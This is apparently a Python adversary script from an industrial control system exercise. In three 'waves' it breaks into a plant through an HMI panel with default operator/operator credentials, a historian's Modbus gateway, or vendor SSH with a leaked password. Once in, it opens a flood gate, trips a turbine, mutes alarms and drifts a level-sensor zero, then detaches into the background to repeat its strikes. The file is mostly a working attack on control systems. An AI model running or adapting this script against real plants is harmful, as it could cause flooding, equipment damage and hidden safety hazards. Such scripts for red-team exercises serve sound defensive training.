"""The adversary: comes in by whichever door still stands open, and does to the plant what the wave is about.

motstander.py WAVE [LATER]   1: opens the flood gate   2: trips the turbine   3: lets the level measurement drift
"""

import http.client
import os
import subprocess
import sys
import time
from collections.abc import Callable
from urllib.parse import urlencode

from modbus import Client, ModbusError

Write = Callable[[str, int, int], None]  # kind (coil or register), address, value
AUTOMATIC, TRIP, MUTED = 0, 1, 3
GATE, MOST_FLOW, ZERO = 2, 3, 10
PANEL_COILS = {AUTOMATIC: "automatic", TRIP: "trip", MUTED: "mute"}
PANEL_FIELDS = {GATE: ("gate", 10, 0), MOST_FLOW: ("most_flow", 100, 0), ZERO: ("zero", 100, 400)}
TRUE_ZERO, DRIFT_CM = 600, 8
# Wave -> doors in the order they are tried, how many times it strikes, and how long it waits between.
PLANS = {1: ("panel gateway door", 1, 0.0), 2: ("gateway panel door", 6, 20.0), 3: ("door gateway panel", 12, 20.0)}
SSH = ["ssh", "-p", "2222", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
       "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=5", "-o", "PreferredAuthentications=password",
       "leverandor@hmi"]  # fmt: skip


class Closed(Exception):
    """This door does not lead in."""


def panel() -> Write:
    """The operator panel with the factory's password."""
    answer = posted("/inn", {"bruker": "operator", "passord": "operator"}, "")
    cookie = (answer.getheader("Set-Cookie") or "").split(";")[0]
    if answer.status != 303 or not cookie:
        raise Closed

    def write(kind: str, address: int, value: int) -> None:
        if kind == "coil":
            posted("/bryter", {PANEL_COILS[address]: str(value)}, cookie)
        else:
            name, scale, datum = PANEL_FIELDS[address]
            posted("/sett", {name: f"{value / scale + datum:g}"}, cookie)

    return write


def posted(path: str, form: dict[str, str], cookie: str) -> http.client.HTTPResponse:
    """The panel's answer to a form."""
    connection = http.client.HTTPConnection("hmi", 8080, timeout=5)
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}
    connection.request("POST", path, urlencode(form), headers)
    return connection.getresponse()


def gateway() -> Write:
    """The historian's gateway to the controller."""
    client = Client("historikk")
    client.write_register(90, client.registers(90)[0])  # refused where writing is limited

    def write(kind: str, address: int, value: int) -> None:
        if kind == "coil":
            client.write_coil(address, bool(value))
        else:
            client.write_register(address, value)

    return write


def door() -> Write:
    """The vendor's remote maintenance, with the password of a project file that went astray."""
    run("true")

    def write(kind: str, address: int, value: int) -> None:
        run(f"modbus plc skriv-{'spole' if kind == 'coil' else 'reg'} {address} {value}")

    return write


def run(command: str) -> None:
    """A command on the engineering workstation."""
    environment = {**os.environ, "SSHPASS": os.environ["LEVERANDOR_PASSORD"]}
    done = subprocess.run(["sshpass", "-e", *SSH, command], env=environment, capture_output=True, timeout=12)
    if done.returncode != 0:
        raise Closed


DOORS: dict[str, Callable[[], Write]] = {"panel": panel, "gateway": gateway, "door": door}


def strike(wave: int, turn: int, write: Write) -> None:
    """What a wave does on its `turn`, counted from 0."""
    if wave == 1:
        write("coil", AUTOMATIC, 0)
        write("register", GATE, 1000)
    elif wave == 2:
        write("register", MOST_FLOW, 700)
        write("coil", TRIP, 1)
    else:
        write("coil", MUTED, 1)
        write("register", ZERO, TRUE_ZERO + DRIFT_CM * (turn + 1))


def once(wave: int, turn: int) -> str:
    """The door a strike went through, empty when none stood open."""
    for name in PLANS[wave][0].split():
        try:
            strike(wave, turn, DOORS[name]())
        except (Closed, ModbusError, OSError, http.client.HTTPException, subprocess.TimeoutExpired):
            continue
        return name
    return ""


def main() -> None:
    """Strike once and tell how it went; further strikes follow by themselves, as long as a door stands open."""
    wave = int(sys.argv[1])
    _, times, pause_s = PLANS[wave]
    if len(sys.argv) > 2:
        for turn in range(1, times):
            time.sleep(pause_s)
            once(wave, turn)
        return
    through = once(wave, 0)
    print(f"wave {wave}: {'in by the ' + through if through else 'every door is closed'}")
    if times > 1:
        quiet = subprocess.DEVNULL
        subprocess.Popen(
            [sys.executable, __file__, str(wave), "later"],
            stdin=quiet, stdout=quiet, stderr=quiet, start_new_session=True,
        )  # fmt: skip


if __name__ == "__main__":
    main()
